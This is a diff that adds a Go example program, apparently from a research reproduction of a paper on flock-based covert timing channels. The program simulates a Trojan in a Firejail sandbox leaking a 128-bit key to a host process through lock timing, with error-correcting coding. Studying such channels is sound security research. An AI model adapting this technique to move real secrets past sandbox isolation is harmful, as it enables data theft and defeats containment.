@@ -1,0 +1,51 @@
+// Exfiltration: the paper's cross-sandbox threat scenario (§III). A Trojan
+// confined in a sandbox has collected a 128-bit key; sandbox policy
+// forbids writing to external resources, but the flock channel only needs
+// the *timing* of lock acquisitions on a shared read-only file, so the key
+// walks out anyway.
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"mes"
+	"mes/internal/codec"
+)
+
+func main() {
+	// The secret: a 128-bit AES key the Trojan scraped inside the jail.
+	key := []byte{
+		0x2b, 0x7e, 0x15, 0x16, 0x28, 0xae, 0xd2, 0xa6,
+		0xab, 0xf7, 0x15, 0x88, 0x09, 0xcf, 0x4f, 0x3c,
+	}
+	// Triple-repetition FEC: the channel's residual BER is <1%, so
+	// majority voting makes the exfiltrated key exact.
+	payload := codec.EncodeRepetition(codec.FromBytes(key), 3)
+
+	res, err := mes.Send(mes.Config{
+		Mechanism: mes.Flock, // Linux: Firejail sandbox, shared read-only file
+		Scenario:  mes.CrossSandbox(),
+		Payload:   payload,
+		Seed:      7,
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	leaked := codec.DecodeRepetition(res.ReceivedBits, 3).Bytes()
+	fmt.Printf("scenario  : Trojan in Firejail, Spy on host, shared read-only file\n")
+	fmt.Printf("timeset   : %v (paper Table V)\n", res.Params)
+	fmt.Printf("key sent  : %x\n", key)
+	fmt.Printf("key leaked: %x\n", leaked)
+	match := len(leaked) == len(key)
+	for i := range key {
+		if i < len(leaked) && leaked[i] != key[i] {
+			match = false
+		}
+	}
+	fmt.Printf("exact     : %v (raw channel BER %.3f%%, 3x-repetition FEC, sync %v)\n",
+		match, res.BER*100, res.SyncOK)
+	fmt.Printf("rate      : %.3f kb/s raw — the full key crossed the sandbox wall in %v\n",
+		res.TRKbps, res.Elapsed)
+}
